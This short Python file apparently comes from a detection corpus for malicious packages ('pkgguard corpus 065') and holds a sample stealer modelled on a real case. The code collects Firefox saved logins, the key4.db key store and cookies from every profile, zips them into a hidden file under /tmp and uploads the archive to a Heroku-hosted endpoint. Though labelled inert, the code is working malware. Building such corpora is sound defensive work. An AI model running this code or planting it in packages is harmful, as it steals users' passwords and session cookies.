# pkgguard corpus 065 (browser-data), modelled on [empirical]; inert, never run.
import glob
import os
import zipfile
import requests

profiles = glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*"))
with zipfile.ZipFile("/tmp/.ff.zip", "w") as z:
    for p in profiles:
        for name in ("logins.json", "key4.db", "cookies.sqlite"):
            if os.path.exists(os.path.join(p, name)):
                z.write(os.path.join(p, name), name)
requests.post("https://files.herokuapp.com/u", files={"z": open("/tmp/.ff.zip", "rb")})
